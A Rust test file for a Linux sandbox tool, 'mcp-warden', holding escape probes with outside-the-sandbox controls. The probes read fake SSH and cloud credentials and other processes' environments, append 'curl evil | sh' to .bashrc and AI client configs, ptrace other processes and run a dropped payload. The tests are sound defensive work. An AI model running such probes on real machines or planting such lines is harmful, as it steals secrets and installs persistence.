//! Escape attempts against the default profile of `mcp-warden run`.
//!
//! Every attempt is a real system call made by a probe (python3) inside the real sandbox,
//! started through the real binary. Each is paired with a positive control: the same probe,
//! run outside the sandbox, succeeds — so a test fails if the probe itself is broken.
#![cfg(target_os = "linux")]

mod support;

use std::io::{BufRead, BufReader, Read};
use std::net::{TcpListener, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

/// The probe harness: `attempt()` prints `ok[:value]` or `err:ERRNO` on the last line.
const PRELUDE: &str = r#"
import ctypes, errno, os, socket, subprocess, sys
def attempt(fn):
    try:
        r = fn()
        print("ok" if r is None else "ok:" + str(r))
    except OSError as e:
        print("err:" + errno.errorcode.get(e.errno, str(e.errno)))
libc = ctypes.CDLL(None, use_errno=True)
def check(rc):
    if rc == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return rc
"#;

fn python() -> PathBuf {
    for p in ["/usr/bin/python3", "/usr/local/bin/python3", "/bin/python3"] {
        if Path::new(p).exists() {
            return PathBuf::from(p);
        }
    }
    panic!("python3 is required for the sandbox escape tests (apt-get install python3)");
}

/// A temporary directory outside /tmp (the sandbox has its own /tmp).
fn tempdir() -> tempfile::TempDir {
    tempfile::tempdir_in(support::scratch()).unwrap()
}

struct Fixture {
    home: tempfile::TempDir,
}

impl Fixture {
    /// A fake home with credentials and client configs, like a developer's.
    fn new() -> Fixture {
        let home = tempdir();
        let h = home.path();
        for (p, content) in [
            (
                ".ssh/id_ed25519",
                "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n",
            ),
            (
                ".aws/credentials",
                "[default]\naws_secret_access_key = abc\n",
            ),
            (
                ".config/gcloud/application_default_credentials.json",
                "{\"secret\":1}",
            ),
            (".bashrc", "# rc\n"),
            (".claude.json", "{}"),
            (".cursor/mcp.json", "{}"),
        ] {
            let path = h.join(p);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(&path, content).unwrap();
        }
        Fixture { home }
    }

    fn home(&self) -> &Path {
        self.home.path()
    }

    fn base_env(&self, cmd: &mut Command) {
        cmd.env_clear()
            .env("HOME", self.home())
            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
            .env("LANG", "C.UTF-8")
            .current_dir(self.home());
    }

    /// Run the probe in the sandbox; returns the last stdout line.
    fn inside(&self, flags: &[&str], code: &str, env: &[(&str, &str)]) -> String {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_mcp-warden"));
        self.base_env(&mut cmd);
        cmd.envs(env.iter().copied());
        // The probes print plain text, so the JSON-RPC guard is off: this tests the sandbox.
        cmd.args(["run", "--no-guard", "--block-on", "never"])
            .args(flags);
        cmd.arg("--")
            .arg(python())
            .arg("-c")
            .arg(format!("{PRELUDE}\n{code}"));
        last_line(cmd)
    }

    /// The same probe outside the sandbox (the positive control).
    fn outside(&self, code: &str, env: &[(&str, &str)]) -> String {
        let mut cmd = Command::new(python());
        self.base_env(&mut cmd);
        cmd.envs(env.iter().copied());
        cmd.arg("-c").arg(format!("{PRELUDE}\n{code}"));
        last_line(cmd)
    }
}

fn last_line(mut cmd: Command) -> String {
    let out = cmd.stdin(Stdio::null()).output().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let line = stdout.lines().last().unwrap_or("").trim().to_string();
    assert!(
        !line.is_empty(),
        "probe printed nothing (exit {:?}); stderr:\n{}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    line
}

fn denied(result: &str, expected: &[&str]) {
    assert!(
        expected.iter().any(|e| result == format!("err:{e}")),
        "expected one of {expected:?}, got {result}"
    );
}

#[test]
fn credentials_in_home_are_unreadable() {
    let f = Fixture::new();
    for rel in [
        ".ssh/id_ed25519",
        ".aws/credentials",
        ".config/gcloud/application_default_credentials.json",
    ] {
        let code = format!("attempt(lambda: len(open(os.path.expanduser('~/{rel}')).read()))");
        assert!(
            f.outside(&code, &[]).starts_with("ok:"),
            "control for {rel}"
        );
        denied(&f.inside(&[], &code, &[]), &["EACCES"]);
        // Listing the directory is denied too.
        let dir = Path::new(rel).parent().unwrap().display().to_string();
        let code = format!("attempt(lambda: os.listdir(os.path.expanduser('~/{dir}')))");
        assert!(f.outside(&code, &[]).starts_with("ok:"));
        denied(&f.inside(&[], &code, &[]), &["EACCES"]);
    }
}

#[test]
fn parent_secrets_are_not_inherited_unless_passed_by_name() {
    let f = Fixture::new();
    let env = [("GITHUB_TOKEN", "ghp_escapetestsecret0123456789")];
    let code = "attempt(lambda: os.environ.get('GITHUB_TOKEN', 'absent'))";
    assert_eq!(f.outside(code, &env), "ok:ghp_escapetestsecret0123456789");
    assert_eq!(f.inside(&[], code, &env), "ok:absent");
    assert_eq!(
        f.inside(&["--pass-env", "GITHUB_TOKEN"], code, &env),
        "ok:ghp_escapetestsecret0123456789"
    );
    // Nothing but the allowlist reaches the server.
    let code = "attempt(lambda: ','.join(sorted(os.environ)))";
    let inside = f.inside(&[], code, &[("SOME_OTHER", "x")]);
    for name in inside.trim_start_matches("ok:").split(',') {
        assert!(
            ["HOME", "LANG", "PATH", "TMPDIR", "LC_CTYPE"].contains(&name),
            "unexpected variable {name} in {inside}"
        );
    }
}

#[test]
fn shell_rc_files_and_client_configs_are_not_writable() {
    let f = Fixture::new();
    for rel in [
        ".bashrc",
        ".claude.json",
        ".cursor/mcp.json",
        ".profile",
        ".config/autostart.sh",
    ] {
        let code = format!(
            "attempt(lambda: open(os.path.expanduser('~/{rel}'), 'a').write('curl evil | sh\\n'))"
        );
        denied(&f.inside(&[], &code, &[]), &["EACCES"]);
        assert!(
            f.outside(&code, &[]).starts_with("ok:"),
            "control for {rel}"
        );
    }
    let bashrc = std::fs::read_to_string(f.home().join(".bashrc")).unwrap();
    assert_eq!(
        bashrc.matches("curl evil").count(),
        1,
        "only the control wrote"
    );
}

#[test]
fn etc_is_not_writable_even_as_root() {
    let f = Fixture::new();
    let target = format!("/etc/mcp-warden-escape-{}", std::process::id());
    let code = format!("attempt(lambda: open('{target}', 'w').write('x'))");
    denied(&f.inside(&[], &code, &[]), &["EACCES", "EROFS", "EPERM"]);
    assert!(!Path::new(&target).exists());
    let passwd = "attempt(lambda: open('/etc/passwd', 'a').write(''))";
    denied(&f.inside(&[], passwd, &[]), &["EACCES", "EROFS", "EPERM"]);
    // /etc/shadow is never readable.
    let shadow = "attempt(lambda: len(open('/etc/shadow').read()))";
    denied(&f.inside(&[], shadow, &[]), &["EACCES", "ENOENT"]);
    // Control: as root, the same write succeeds outside.
    if f.outside("attempt(lambda: os.geteuid())", &[]) == "ok:0" {
        assert_eq!(f.outside(&code, &[]), "ok:1");
        std::fs::remove_file(&target).unwrap();
    }
}

/// A process outside the sandbox holding a secret in its environment.
struct Victim(Child);

impl Victim {
    fn start() -> Victim {
        Victim(
            Command::new("sleep")
                .arg("60")
                .env("VICTIM_SECRET", "victim-secret-value")
                .spawn()
                .unwrap(),
        )
    }
    fn pid(&self) -> u32 {
        self.0.id()
    }
    fn alive(&mut self) -> bool {
        self.0.try_wait().unwrap().is_none()
    }
}

impl Drop for Victim {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn other_processes_environ_is_unreadable() {
    let f = Fixture::new();
    let v = Victim::start();
    let code = format!(
        "attempt(lambda: b'victim-secret-value' in open('/proc/{}/environ', 'rb').read())",
        v.pid()
    );
    assert_eq!(f.outside(&code, &[]), "ok:True");
    denied(&f.inside(&[], &code, &[]), &["ENOENT", "EACCES", "ESRCH"]);
    // The sandbox sees only its own processes.
    let code = "attempt(lambda: sorted(int(p) for p in os.listdir('/proc') if p.isdigit()))";
    let inside = f.inside(&[], code, &[]);
    assert!(!inside.contains(&format!(" {},", v.pid())), "{inside}");
    assert!(inside.starts_with("ok:[1, 2"), "{inside}");
}

#[test]
fn other_processes_cannot_be_signalled_or_traced() {
    let f = Fixture::new();
    let mut v = Victim::start();
    let kill = format!("attempt(lambda: os.kill({}, 15))", v.pid());
    denied(&f.inside(&[], &kill, &[]), &["ESRCH", "EPERM"]);
    assert!(v.alive(), "the victim survived the sandboxed kill");
    // PTRACE_ATTACH = 16
    let trace = format!("attempt(lambda: check(libc.ptrace(16, {}, 0, 0)))", v.pid());
    denied(&f.inside(&[], &trace, &[]), &["EPERM", "ESRCH"]);
    // Controls: the same calls work outside.
    assert_eq!(f.outside(&kill, &[]), "ok");
    std::thread::sleep(Duration::from_millis(200));
    assert!(!v.alive(), "control kill worked");
    let other = Victim::start();
    let trace = format!(
        "attempt(lambda: check(libc.ptrace(16, {}, 0, 0)))",
        other.pid()
    );
    assert_eq!(f.outside(&trace, &[]), "ok:0");
}

#[test]
fn namespaces_cannot_be_created() {
    let f = Fixture::new();
    // CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET
    for flag in ["0x10000000", "0x00020000", "0x40000000"] {
        // In a child, so the control does not change the probe's own namespaces.
        let code = format!(
            "pid = os.fork()\n\
             if pid == 0:\n    \
                 try:\n        check(libc.unshare({flag})); os._exit(0)\n    \
                 except OSError as e: os._exit(e.errno)\n\
             _, st = os.waitpid(pid, 0)\n\
             print('ok' if os.WEXITSTATUS(st) == 0 else 'err:' + errno.errorcode[os.WEXITSTATUS(st)])"
        );
        denied(&f.inside(&[], &code, &[]), &["EPERM"]);
        assert_eq!(f.outside(&code, &[]), "ok", "control unshare {flag}");
    }
    // Mounting is denied too.
    let code = "attempt(lambda: check(libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)))";
    denied(&f.inside(&[], code, &[]), &["EPERM"]);
}

fn exec_probe(dir: &str) -> String {
    format!(
        "p = os.path.join('{dir}', 'payload.sh')\n\
         open(p, 'w').write('#!/bin/sh\\necho pwned\\n'); os.chmod(p, 0o755)\n\
         attempt(lambda: subprocess.run([p], capture_output=True).stdout.decode().strip())"
    )
}

#[test]
fn files_it_writes_cannot_be_executed() {
    let f = Fixture::new();
    // In the private temporary directory.
    denied(&f.inside(&[], &exec_probe("/tmp"), &[]), &["EACCES"]);
    // Nor in a directory it was allowed to write.
    let dir = tempdir();
    let d = dir.path().to_str().unwrap();
    denied(
        &f.inside(&["--allow-write", d], &exec_probe(d), &[]),
        &["EACCES"],
    );
    assert!(
        dir.path().join("payload.sh").exists(),
        "the write itself was allowed"
    );
    // Control: outside, the payload runs.
    let other = tempfile::tempdir().unwrap();
    assert_eq!(
        f.outside(&exec_probe(other.path().to_str().unwrap()), &[]),
        "ok:pwned"
    );
}

#[test]
fn outside_tcp_listener_is_unreachable() {
    let f = Fixture::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let code = format!(
        "attempt(lambda: socket.create_connection(('127.0.0.1', {port}), timeout=3).close())"
    );
    assert_eq!(f.outside(&code, &[]), "ok");
    denied(
        &f.inside(&[], &code, &[]),
        &["EPERM", "EACCES", "ENETUNREACH"],
    );
    // Outbound mode allows only ports 53, 80 and 443.
    denied(&f.inside(&["--net", "outbound"], &code, &[]), &["EACCES"]);
    // connect:PORT opens exactly that port.
    assert_eq!(
        f.inside(&["--net", &format!("connect:{port}")], &code, &[]),
        "ok"
    );
}

#[test]
fn udp_cannot_be_sent() {
    let f = Fixture::new();
    let sock = UdpSocket::bind("127.0.0.1:0").unwrap();
    sock.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
    let port = sock.local_addr().unwrap().port();
    let code = format!(
        "attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('127.0.0.1', {port})))"
    );
    denied(&f.inside(&[], &code, &[]), &["EPERM"]);
    assert_eq!(f.outside(&code, &[]), "ok:4");
    let mut buf = [0u8; 16];
    let (n, _) = sock.recv_from(&mut buf).unwrap();
    assert_eq!(&buf[..n], b"leak", "only the control's datagram arrived");
    sock.set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    assert!(
        sock.recv_from(&mut buf).is_err(),
        "no datagram from the sandbox"
    );
}

#[test]
fn other_socket_families_are_denied() {
    let f = Fixture::new();
    for (family, kind, proto) in [
        ("AF_INET6", "SOCK_STREAM", "0"),
        ("AF_INET", "SOCK_RAW", "socket.IPPROTO_ICMP"),
        // NETLINK_SOCK_DIAG would list the host's connections.
        ("AF_NETLINK", "SOCK_RAW", "4"),
    ] {
        let code = format!(
            "attempt(lambda: socket.socket(socket.{family}, socket.{kind}, {proto}).close())"
        );
        denied(&f.inside(&[], &code, &[]), &["EPERM"]);
        assert_eq!(f.outside(&code, &[]), "ok", "control {family}");
    }
    // UNIX sockets keep working inside (runtimes use them internally).
    let code = "attempt(lambda: [s.close() for s in socket.socketpair()] and None)";
    assert_eq!(f.inside(&[], code, &[]), "ok");
}

#[test]
fn listening_sockets_are_unreachable_from_outside() {
    let f = Fixture::new();
    let code = "def listen():\n    \
                    s = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen(1)\n    \
                    return s.getsockname()[1]\n\
                attempt(listen)";
    for flags in [
        &[][..],
        &["--net", "outbound"][..],
        &["--net", "connect:443"][..],
    ] {
        denied(&f.inside(flags, code, &[]), &["EPERM", "EACCES"]);
    }
    // Control: outside, the listener is reachable.
    let mut child = Command::new(python())
        .arg("-c")
        .arg(format!(
            "{PRELUDE}\ns = socket.socket()\ns.bind(('127.0.0.1', 0)); s.listen(1)\n\
             print(s.getsockname()[1], flush=True)\nc, _ = s.accept(); c.send(b'hi')"
        ))
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.as_mut().unwrap())
        .read_line(&mut line)
        .unwrap();
    let port: u16 = line.trim().parse().unwrap();
    let mut conn = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    let mut got = String::new();
    conn.read_to_string(&mut got).unwrap();
    assert_eq!(got, "hi");
    child.wait().unwrap();
}

#[test]
fn host_network_is_explicit() {
    let f = Fixture::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let code = format!(
        "attempt(lambda: socket.create_connection(('127.0.0.1', {port}), timeout=3).close())"
    );
    assert_eq!(f.inside(&["--net", "host"], &code, &[]), "ok");
}

#[test]
fn x32_system_call_numbers_kill_the_process() {
    // getpid with the x32 bit set: without the guard, kernels with x32 support would run it
    // past a deny-list keyed on x86-64 numbers; here it must kill the probe.
    if !cfg!(target_arch = "x86_64") {
        return;
    }
    let f = Fixture::new();
    let code = "attempt(lambda: check(libc.syscall(0x40000000 | 39)))";
    let control = f.outside(code, &[]);
    assert!(
        control == "err:ENOSYS" || control.starts_with("ok:"),
        "{control}"
    );
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_mcp-warden"));
    f.base_env(&mut cmd);
    cmd.args(["run", "--no-guard", "--block-on", "never", "--"])
        .arg(python())
        .arg("-c")
        .arg(format!("{PRELUDE}\n{code}"));
    let out = cmd.stdin(Stdio::null()).output().unwrap();
    assert_eq!(
        out.status.code(),
        Some(128 + 31),
        "expected death by SIGSYS; stdout {:?}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(out.stdout.is_empty());
}
